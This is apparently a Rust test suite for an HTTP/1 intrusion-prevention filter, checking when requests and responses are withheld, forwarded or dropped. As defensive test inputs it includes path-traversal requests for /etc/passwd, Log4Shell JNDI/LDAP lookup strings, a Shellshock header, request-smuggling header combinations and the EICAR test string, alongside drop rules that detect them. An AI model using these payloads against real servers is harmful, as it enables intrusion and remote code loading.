//! HTTP/1 sessions: what is withheld, what is forwarded, what is a violation.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{Run, ToClient, ToServer, filter, rules};
use weir_inspect::{Dropped, HttpViolation, MAX_ALERTS, MAX_HEAD, MAX_OUTSTANDING, Service};

/// Matches nothing that the tests send.
const QUIET: &str = "drop tcp any any -> any any (content:\"|00 de ad be ef|\"; sid:1;)";
const GET: &str = "GET / HTTP/1.1\r\nHost: a.example\r\n\r\n";

fn violation(verdict: Result<(), Dropped>) -> HttpViolation {
    match verdict {
        Err(Dropped::ProtocolViolation(violation)) => violation,
        other => panic!("no violation: {other:?}"),
    }
}

fn drop_rule(options: &str) -> Run {
    Run::http(&format!("drop http any any -> any any ({options} sid:7; rev:2;)"))
}

#[test]
fn head_is_withheld_until_whole_and_forwarded_unchanged() {
    let mut run = Run::http(QUIET);
    run.drip(ToServer, &GET[..GET.len() - 1]).unwrap();
    assert_eq!(run.to_server, b"");
    run.send(ToServer, "\nGET /next").unwrap();
    assert_eq!(run.to_server, GET.as_bytes());
}

#[test]
fn request_dropped_for_its_head_never_reaches_the_server() {
    let mut run = drop_rule("http.uri; content:\"/etc/passwd\"; nocase;");
    let verdict =
        run.drip(ToServer, "GET /x/%2e%2e/ETC/%70asswd HTTP/1.1\r\nHost: a.example\r\n\r\n");
    assert_eq!(filter(verdict), 7);
    assert_eq!(run.to_server, b"");
    // Dropped is dropped: nothing more goes, either way.
    assert_eq!(filter(run.send(ToClient, "HTTP/1.1 200 OK\r\n\r\n")), 7);
    assert_eq!(filter(run.end(ToServer)), 7);
    assert_eq!((run.to_server, run.to_client), (vec![], vec![]));
}

#[test]
fn raw_match_in_a_head_forwards_nothing_of_it() {
    let mut run = Run::http("drop tcp any any -> any any (content:\"Cookie|3a| evil\"; sid:7;)");
    let verdict = run.send(ToServer, "GET / HTTP/1.1\r\nHost: a\r\nCookie: evil\r\n\r\n");
    assert_eq!(filter(verdict), 7);
    assert_eq!(run.to_server, b"");
}

#[test]
fn byte_that_completes_a_match_in_a_body_is_not_forwarded() {
    let mut run = drop_rule("content:\"jndi\";");
    let head = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 20\r\n\r\n";
    run.send(ToServer, format!("{head}ab jn")).unwrap();
    assert_eq!(filter(run.send(ToServer, "di and more")), 7);
    assert_eq!(run.to_server, format!("{head}ab jnd").as_bytes());
}

#[test]
fn match_across_chunks_is_found_and_chunk_framing_is_not_content() {
    let mut run = drop_rule("content:\"jndi\";");
    let head = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
    let verdict = run.send(ToServer, format!("{head}3;x=y\r\n jn\r\n2\r\ndi\r\n0\r\n\r\n"));
    assert_eq!(filter(verdict), 7);
    assert_eq!(run.to_server, format!("{head}3;x=y\r\n jn\r\n2\r\nd").as_bytes());
}

#[test]
fn trailers_are_withheld_and_matched() {
    let chunks = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n";
    let mut run = drop_rule("content:\"jndi\";");
    let verdict = run.drip(ToServer, format!("{chunks}X-Trailer: jndi\r\n\r\n"));
    assert_eq!(filter(verdict), 7);
    assert_eq!(run.to_server, chunks.as_bytes());

    let mut run = Run::http(QUIET);
    let good = format!("{chunks}X-Trailer: y\r\n\r\n{GET}");
    run.drip(ToServer, &good).unwrap();
    assert_eq!(run.to_server, good.as_bytes());
    let verdict = run.send(ToServer, format!("{chunks}Content-Length: 5\r\n\r\n"));
    assert_eq!(violation(verdict), HttpViolation::Trailer);
}

#[test]
fn all_contents_of_a_rule_must_match_in_one_request() {
    let rule = "http.method; content:\"POST\"; http.host; content:\"a.example\"; \
                http.uri; content:\"/up\"; content:!\"safe\";";
    let request = |method: &str, uri: &str, host: &str| {
        format!("{method} {uri} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n")
    };
    let mut run = drop_rule(rule);
    // Each lacks something that others have: nothing carries over.
    for harmless in [
        request("GET", "/up", "a.example"),
        request("POST", "/down", "a.example"),
        request("POST", "/up", "b.example"),
        request("POST", "/up/safe", "a.example"),
    ] {
        run.send(ToServer, &harmless).unwrap();
    }
    let passed = run.to_server.len();
    assert_eq!(filter(run.send(ToServer, request("POST", "/up", "A.Example:8443"))), 7);
    assert_eq!(run.to_server.len(), passed);
}

#[test]
fn head_and_body_contents_combine() {
    let rule = "content:\"secret\"; http.uri; content:\"/up\"; http.host; content:!\"inside\";";
    let post = |host: &str| {
        format!("POST /up HTTP/1.1\r\nHost: {host}\r\nContent-Length: 6\r\n\r\nsecret")
    };
    let mut run = drop_rule(rule);
    run.send(ToServer, post("inside.example")).unwrap();
    assert_eq!(filter(run.send(ToServer, post("out.example"))), 7);
    assert!(run.to_server.ends_with(b"secre"));
}

#[test]
fn negated_content_holds_for_an_absent_buffer() {
    let mut run = drop_rule("http.host; content:!\"good.example\";");
    run.send(ToServer, "GET / HTTP/1.1\r\nHost: good.example\r\n\r\n").unwrap();
    assert_eq!(filter(run.send(ToServer, "GET / HTTP/1.0\r\n\r\n")), 7);
}

#[test]
fn flow_restricts_the_direction() {
    let mut run = drop_rule("flow:established,to_client; content:\"evil\";");
    run.send(ToServer, "GET /evil HTTP/1.1\r\nHost: evil\r\n\r\n").unwrap();
    let head = "HTTP/1.1 200 OK\r\n\r\n";
    assert_eq!(filter(run.send(ToClient, format!("{head}an evil page"))), 7);
    assert_eq!(run.to_client, format!("{head}an evi").as_bytes());
}

#[test]
fn alert_fires_once_a_message_for_http_and_once_a_session_for_tcp() {
    let text = "alert http any any -> any any (msg:\"in \\\"http\\\"\"; content:\"GET\"; sid:1;)\n\
                alert tcp any any -> any any (content:\"GET\"; sid:2;)";
    let mut run = Run::http(text);
    let three = "GET /GET HTTP/1.1\r\nHost: GET\r\n\r\n";
    run.send(ToServer, three).unwrap();
    run.send(ToServer, GET).unwrap();
    let mut sids = run.sids();
    sids.sort_unstable();
    assert_eq!(sids, [1, 1, 2]);
    let http = run.alerts.iter().find(|alert| alert.sid == 1).unwrap();
    assert_eq!(&*http.message, "in \"http\"");
    assert_eq!(run.to_server, format!("{three}{GET}").as_bytes());
}

#[test]
fn alerts_of_one_call_are_bounded_and_counted() {
    let text = (1..=4)
        .map(|sid| format!("alert http any any -> any any (content:\"GET\"; sid:{sid};)\n"))
        .collect::<String>();
    let mut run = Run::http(&text);
    run.send(ToServer, GET.repeat(100)).unwrap();
    assert_eq!(run.alerts.len(), MAX_ALERTS);
    assert_eq!(run.session.suppressed_alerts(), 400 - MAX_ALERTS as u64);
}

#[test]
fn responses_are_framed_by_their_requests() {
    let mut run = Run::http(QUIET);
    run.send(ToServer, "HEAD / HTTP/1.1\r\nHost: a\r\n\r\n".repeat(2)).unwrap();
    run.send(ToServer, GET.repeat(4)).unwrap();
    let responses = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n\
                     HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n\
                     HTTP/1.1 304 Not Modified\r\nContent-Length: 5\r\n\r\n\
                     HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n\
                     HTTP/1.1 200 OK\r\nTransfer-Encoding: Chunked\r\n\r\nA  \r\n0123456789\r\n0\r\n\r\n\
                     HTTP/1.0 200 OK\r\n\r\nuntil\r\n\r\nthe end";
    run.drip(ToClient, responses).unwrap();
    run.end(ToClient).unwrap();
    assert_eq!(run.to_client, responses.as_bytes());
}

#[test]
fn ambiguous_requests_are_violations_and_are_not_forwarded() {
    use HttpViolation as V;
    let chunked = "Transfer-Encoding: chunked\r\n";
    for (head, expected) in [
        ("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", V::LengthAndTransferEncoding),
        ("Content-Length: 5\r\nContent-Length: 6\r\n", V::DifferentContentLengths),
        ("Content-Length: +5\r\n", V::ContentLength),
        ("Content-Length: 5, 5\r\n", V::ContentLength),
        ("Content-Length: 99999999999999999999\r\n", V::ContentLength),
        ("Content-Length:\r\n", V::ContentLength),
        ("Content-Length : 5\r\n", V::FieldName),
        ("Transfer-Encoding: xchunked\r\n", V::TransferEncoding),
        ("Transfer-Encoding: gzip, chunked\r\n", V::TransferEncoding),
        (&chunked.repeat(2), V::TransferEncoding),
        ("Transfer-Encoding:\x0bchunked\r\n", V::FieldValue),
        ("X: a\r\n folded\r\n", V::FoldedField),
        ("X: a\nY: b\r\n", V::BareLineFeed),
        ("X: a\rY: b\r\n", V::BareCarriageReturn),
        ("X: a\0b\r\n", V::FieldValue),
        ("Host: b.example\r\n", V::Host),
        (&"X: y\r\n".repeat(256), V::TooManyFields),
    ] {
        let mut run = Run::http(QUIET);
        let request = format!("POST / HTTP/1.1\r\nHost: a\r\n{head}\r\n12345");
        assert_eq!(violation(run.send(ToServer, &request)), expected, "{head:?}");
        assert_eq!(run.to_server, b"", "{head:?}");
        assert_eq!(violation(Run::http(QUIET).drip(ToServer, &request)), expected, "{head:?}");
    }
}

#[test]
fn odd_request_lines_are_violations() {
    use HttpViolation as V;
    for (request, expected) in [
        ("GET / HTTP/1.1\r\n\r\n", V::Host),
        ("GET /etc/passwd\r\n", V::Version),
        ("GET / HTTP/1.1\nHost: a\n\n", V::BareLineFeed),
        ("\nGET / HTTP/1.1\r\n", V::BytesBeforeRequestLine),
        (" GET / HTTP/1.1\r\n", V::BytesBeforeRequestLine),
        ("GET  / HTTP/1.1\r\nHost: a\r\n\r\n", V::RequestLine),
        ("GET / x HTTP/1.1\r\nHost: a\r\n\r\n", V::Version),
        ("GET a HTTP/1.1\r\nHost: a\r\n\r\n", V::RequestTarget),
        ("GET http://b/ HTTP/1.1\r\nHost: a\r\n\r\n", V::Host),
        ("GET / HTTP/1.1\r\nHost: a, b\r\n\r\n", V::Host),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", V::Version),
        ("POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n", V::TransferEncoding),
    ] {
        assert_eq!(violation(Run::http(QUIET).send(ToServer, request)), expected, "{request:?}");
        assert_eq!(violation(Run::http(QUIET).drip(ToServer, request)), expected, "{request:?}");
    }
}

#[test]
fn bad_chunks_are_violations() {
    use HttpViolation as V;
    let head = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
    for (chunks, expected) in [
        ("\r\n", V::ChunkSize),
        ("0x5\r\n", V::ChunkSize),
        ("5 \r\n", V::ChunkSize),
        ("1234567890abcdef\r\n", V::ChunkSize),
        ("5\n", V::ChunkSize),
        ("5\r5", V::BareCarriageReturn),
        ("5;a\nb", V::ChunkExtension),
        ("1\r\nxx", V::ChunkEnd),
        ("1\r\nx\rx", V::ChunkEnd),
    ] {
        let mut run = Run::http(QUIET);
        run.send(ToServer, head).unwrap();
        assert_eq!(violation(run.send(ToServer, chunks)), expected, "{chunks:?}");
    }
    let mut run = Run::http(QUIET);
    let extension = format!("{head}1;{}", "x".repeat(2000));
    assert_eq!(violation(run.send(ToServer, extension)), V::ChunkExtension);
}

#[test]
fn server_out_of_turn_is_a_violation() {
    use HttpViolation as V;
    let mut run = Run::http(QUIET);
    assert_eq!(violation(run.send(ToClient, "HTTP/1.1 200 OK\r\n\r\n")), V::UnexpectedResponse);

    let mut run = Run::http(QUIET);
    let timeout = "HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\n\r\n";
    run.send(ToClient, timeout).unwrap();
    assert_eq!(run.to_client, timeout.as_bytes());

    let mut run = Run::http(QUIET);
    run.send(ToServer, GET).unwrap();
    let twice = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".repeat(2);
    assert_eq!(violation(run.send(ToClient, &twice)), V::UnexpectedResponse);
    assert_eq!(run.to_client, &twice.as_bytes()[..twice.len() / 2]);

    let mut run = Run::http(QUIET);
    run.send(ToServer, GET).unwrap();
    assert_eq!(violation(run.send(ToClient, "<html>")), V::NotAResponse);
}

#[test]
fn outstanding_requests_are_bounded() {
    let mut run = Run::http(QUIET);
    run.send(ToServer, GET.repeat(MAX_OUTSTANDING)).unwrap();
    assert_eq!(violation(run.send(ToServer, GET)), HttpViolation::TooManyOutstanding);
    assert_eq!(run.to_server.len(), GET.len() * MAX_OUTSTANDING);
}

#[test]
fn head_up_to_the_bound_passes_and_a_longer_one_is_dropped() {
    let head = |length: usize| {
        let start = "GET / HTTP/1.1\r\nHost: a\r\nX: ";
        format!("{start}{}\r\n\r\n", "y".repeat(length - start.len() - 4))
    };
    for drip in [false, true] {
        let send = |run: &mut Run, head: &str| {
            if drip { run.drip(ToServer, head) } else { run.send(ToServer, head) }
        };
        let mut run = Run::http(QUIET);
        send(&mut run, &head(MAX_HEAD)).unwrap();
        assert_eq!(run.to_server.len(), MAX_HEAD);
        assert_eq!(send(&mut run, &head(MAX_HEAD + 1)), Err(Dropped::HeadTooLarge));
        assert_eq!(run.to_server.len(), MAX_HEAD);
    }
    let mut run = Run::http(QUIET);
    run.send(ToServer, GET).unwrap();
    let endless = format!("HTTP/1.1 200 OK\r\nX: {}", "y".repeat(2 * MAX_HEAD));
    assert_eq!(run.send(ToClient, endless), Err(Dropped::HeadTooLarge));
    assert_eq!(run.to_client, b"");
}

#[test]
fn endless_empty_lines_between_requests_are_dropped() {
    for drip in [false, true] {
        let mut run = Run::http(QUIET);
        run.send(ToServer, GET).unwrap();
        let empty = "\r\n".repeat(MAX_HEAD / 2);
        let verdict = if drip { run.drip(ToServer, &empty) } else { run.send(ToServer, &empty) };
        assert_eq!(verdict, Ok(()));
        assert_eq!(run.send(ToServer, "\r\n"), Err(Dropped::HeadTooLarge));
        assert_eq!(run.send(ToServer, GET), Err(Dropped::HeadTooLarge));
        assert_eq!(run.to_server, GET.as_bytes());
    }
    let mut run = Run::http(QUIET);
    let both = format!("{GET}{}{GET}", "\r\n".repeat(MAX_HEAD / 2 + 1));
    assert_eq!(run.send(ToServer, both), Err(Dropped::HeadTooLarge));
    assert_eq!(run.to_server, GET.as_bytes());
}

const UPGRADE: &str =
    "GET /ws HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n";
const SWITCH: &str = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n";

#[test]
fn after_an_upgrade_both_directions_are_raw_streams() {
    let mut run = Run::http("drop tcp any any -> any any (content:\"evil\"; sid:7;)");
    run.send(ToServer, UPGRADE).unwrap();
    run.send(ToClient, format!("{SWITCH}\x01\x02")).unwrap();
    run.send(ToServer, "\n\r not HTTP ev").unwrap();
    assert_eq!(run.to_client, format!("{SWITCH}\x01\x02").as_bytes());
    assert_eq!(filter(run.send(ToServer, "il")), 7);
    assert!(run.to_server.ends_with(b"evi"));
}

#[test]
fn refused_upgrade_stays_http() {
    let mut run = Run::http(QUIET);
    run.send(ToServer, UPGRADE).unwrap();
    run.send(ToClient, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").unwrap();
    run.send(ToServer, GET).unwrap();
    assert_eq!(run.to_server, format!("{UPGRADE}{GET}").as_bytes());
}

#[test]
fn bytes_before_the_answer_to_an_upgrade_are_a_violation() {
    use HttpViolation as V;
    let mut run = Run::http(QUIET);
    assert_eq!(violation(run.send(ToServer, format!("{UPGRADE}x"))), V::BytesBeforeSwitch);

    let mut run = Run::http(QUIET);
    run.send(ToServer, GET).unwrap();
    assert_eq!(violation(run.send(ToClient, SWITCH)), V::UnexpectedSwitch);

    let mut run = Run::http(QUIET);
    run.send(ToServer, UPGRADE).unwrap();
    let http2 = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n";
    assert_eq!(violation(run.send(ToClient, http2)), V::Http2Upgrade);
}

#[test]
fn connect_opens_a_raw_tunnel() {
    let mut run = Run::http(QUIET);
    run.send(ToServer, "CONNECT b:443 HTTP/1.1\r\nHost: b:443\r\n\r\n").unwrap();
    run.send(ToClient, "HTTP/1.1 200 OK\r\n\r\n\x16\x03").unwrap();
    run.send(ToServer, b"\x16\x03\x01").unwrap();
    assert!(run.to_client.ends_with(b"\x16\x03"));
    assert!(run.to_server.ends_with(b"\x16\x03\x01"));
}

#[test]
fn odd_method_turns_no_rule_off_for_what_follows() {
    let attack = "GET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n";
    for drip in [false, true] {
        let mut run = drop_rule("http.uri; content:\"/etc/passwd\";");
        let first = format!("{} / HTTP/1.1\r\nHost: a\r\n\r\n", "A".repeat(33));
        let both = format!("{first}{attack}");
        let verdict = if drip { run.drip(ToServer, &both) } else { run.send(ToServer, &both) };
        assert_eq!(filter(verdict), 7);
        assert_eq!(run.to_server, first.as_bytes());

        let mut run = drop_rule("http.uri; content:\"/etc/passwd\";");
        let both = format!("G{{T / HTTP/1.1\r\nHost: a\r\n\r\n{attack}");
        let verdict = if drip { run.drip(ToServer, &both) } else { run.send(ToServer, &both) };
        assert_eq!(violation(verdict), HttpViolation::RequestLine);
        assert_eq!(run.to_server, b"");
    }
}

#[test]
fn endless_first_line_is_dropped_whatever_its_method() {
    for start in ["A", "FROB ", "G{T ", "GET /", "{"] {
        let endless = format!("{start}{}", "A".repeat(MAX_HEAD));
        for drip in [false, true] {
            let mut run = Run::http(QUIET);
            let verdict =
                if drip { run.drip(ToServer, &endless) } else { run.send(ToServer, &endless) };
            assert_eq!(verdict, Err(Dropped::HeadTooLarge), "{start:?}");
            assert_eq!(run.to_server, b"");
        }
    }
}

#[test]
fn what_is_not_http_is_a_raw_stream() {
    for (first, answer) in [
        ("EHLO a\r\n", "250 ok\r\n"),
        ("\0\x01\x02", "GET "),
        ("x y z\n", ""),
        ("{\"id\": 1}\n", ""),
        // An anonymous bind of LDAP.
        ("0\x0c\x02\x01\x01\x60\x07", ""),
    ] {
        let text = "drop tcp any any -> any any (content:\"evil\"; sid:7;)";
        let mut run = Run::http(text);
        run.drip(ToServer, first).unwrap();
        run.send(ToClient, answer).unwrap();
        assert_eq!(run.to_server, first.as_bytes());
        assert_eq!(run.to_client, answer.as_bytes());
        assert_eq!(filter(run.send(ToClient, "an evil banner")), 7);
    }
}

#[test]
fn server_that_speaks_first_decides_its_own_direction_only() {
    let mut run = Run::http("drop tcp any any -> any any (content:\"evil\"; sid:7;)");
    run.send(ToServer, "EH").unwrap();
    run.send(ToClient, "220 mail.example\r\n").unwrap();
    run.drip(ToClient, "220 more\r\n").unwrap();
    assert_eq!(run.to_client, b"220 mail.example\r\n220 more\r\n");
    assert_eq!(run.to_server, b"");
    run.send(ToServer, "LO a\r\nMAIL").unwrap();
    assert_eq!(run.to_server, b"EHLO a\r\nMAIL");
    run.send(ToServer, " FROM").unwrap();
    assert!(run.to_server.ends_with(b"MAIL FROM"));
    assert_eq!(filter(run.send(ToClient, "evil")), 7);
    assert!(run.to_client.ends_with(b"\r\nevi"));
}

#[test]
fn first_words_of_a_server_are_matched_as_a_stream() {
    let mut run = Run::http("drop tcp any any -> any any (content:\"evil\"; sid:7;)");
    assert_eq!(filter(run.send(ToClient, "an evil banner")), 7);
    assert_eq!(run.to_client, b"an evi");
}

#[test]
fn http_after_a_server_that_spoke_first_is_a_violation() {
    for first in ["x", "HTTX", "\r\n", "HTTP/1.1 408 x\r\nContent-Length: 0\r\n\r\nx"] {
        for request in [GET, "POST / HTTP/1.1\r\n", "FROB / HTTP/1.1\r\n"] {
            let mut run = Run::http(QUIET);
            run.drip(ToClient, first).unwrap();
            assert_eq!(run.to_client, first.as_bytes());
            assert_eq!(violation(run.send(ToServer, request)), HttpViolation::NotAResponse);
            assert_eq!(run.to_server, b"");

            let mut run = Run::http(QUIET);
            run.send(ToClient, first).unwrap();
            assert_eq!(violation(run.drip(ToServer, request)), HttpViolation::NotAResponse);
            assert_eq!(run.to_server, b"");
        }
    }
}

#[test]
fn server_that_ends_early_turns_no_rule_off() {
    for first in ["", "H", "HTTP", "HTTP/1"] {
        let mut run = drop_rule("http.uri; content:\"/evil\";");
        run.send(ToClient, first).unwrap();
        run.end(ToClient).unwrap();
        let verdict = run.send(ToServer, "GET /evil HTTP/1.1\r\nHost: a\r\n\r\n");
        match first {
            "" | "HTTP/1" => assert_eq!(filter(verdict), 7, "{first:?}"),
            _ => assert_eq!(violation(verdict), HttpViolation::NotAResponse, "{first:?}"),
        }
        assert_eq!(run.to_server, b"");
        // Whole words that are not HTTP go on, part of a head does not.
        assert_eq!(run.to_client, if first == "HTTP/1" { "" } else { first }.as_bytes());
    }
}

#[test]
fn client_that_is_not_http_releases_what_the_server_said() {
    let mut run = Run::http(QUIET);
    run.send(ToClient, "HTT").unwrap();
    assert_eq!(run.to_client, b"");
    assert!(!run.session.is_released(ToClient));
    run.send(ToServer, "EHLO a\r\n").unwrap();
    assert_eq!(run.to_server, b"EHLO a\r\n");
    assert!(run.session.is_released(ToClient));
    run.send(ToClient, "").unwrap();
    assert_eq!(run.to_client, b"HTT");
    assert!(!run.session.is_released(ToClient));

    // As does its end.
    let mut run = Run::http(QUIET);
    run.send(ToServer, "QUIT").unwrap();
    run.send(ToClient, "HTT").unwrap();
    run.end(ToServer).unwrap();
    assert_eq!(run.to_server, b"QUIT");
    assert!(run.session.is_released(ToClient));
}

#[test]
fn end_releases_what_is_not_http_and_discards_part_of_a_head() {
    let mut run = Run::http(QUIET);
    run.send(ToServer, "QUIT").unwrap();
    run.end(ToServer).unwrap();
    assert_eq!(run.to_server, b"QUIT");

    for part in ["GET /etc/pass", "GET / HTTP/1.1\r\nHost: a\r\n", "FROB / HTTP/1.1"] {
        let mut run = Run::http(QUIET);
        run.send(ToServer, part).unwrap();
        run.end(ToServer).unwrap();
        assert_eq!(run.to_server, b"");
    }
}

#[test]
fn other_services_are_raw_streams() {
    let text = "drop http any any -> any any (content:\"evil\"; sid:6;)\n\
                drop tcp any any -> any any (content:\"worse\"; sid:7;)";
    let mut run = Run::new(&rules(text), Service::Other);
    run.send(ToServer, "GET /evil HTTP/1.1").unwrap();
    assert_eq!(run.to_server, b"GET /evil HTTP/1.1");
    assert_eq!(filter(run.send(ToServer, "worse")), 7);
}

#[test]
fn empty_rule_set_forwards_everything() {
    let mut run = Run::new(&rules(""), Service::Http);
    run.send(ToServer, "GET /\r\nhalf").unwrap();
    assert_eq!(run.to_server, b"GET /\r\nhalf");
}

#[test]
fn shipped_example_blocks_what_it_names() {
    let text = include_str!("../rules/example.rules");
    let get = |uri: &str, field: &str| {
        format!("GET {uri} HTTP/1.1\r\nHost: a.example\r\nUser-Agent: {field}\r\n\r\n")
    };
    for (request, sid) in [
        (get("/../../etc/passwd", "x"), 9000001),
        (get("/?f=%2e%2e/ETC/passwd", "x"), 9000001),
        (get("/", "${JNDI:ldap://x/a}"), 9000003),
        (get("/?q=%24%7bjndi:ldap", "x"), 9000004),
        (get("/cgi-bin/x", "() { :;}; echo"), 9000005),
    ] {
        let mut run = Run::http(text);
        assert_eq!(filter(run.send(ToServer, &request)), sid, "{request}");
        assert_eq!(run.to_server, b"");
    }
    let mut run = Run::http(text);
    run.send(ToServer, get("/a/page?q=1", "curl/8.0")).unwrap();
    let eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    let head = "HTTP/1.1 200 OK\r\nContent-Length: 68\r\n\r\n";
    assert_eq!(filter(run.send(ToClient, format!("{head}{eicar}"))), 9000006);
    assert_eq!(run.to_client, format!("{head}{}", &eicar[..67]).as_bytes());
    assert_eq!(run.sids(), Vec::<u32>::new());
}
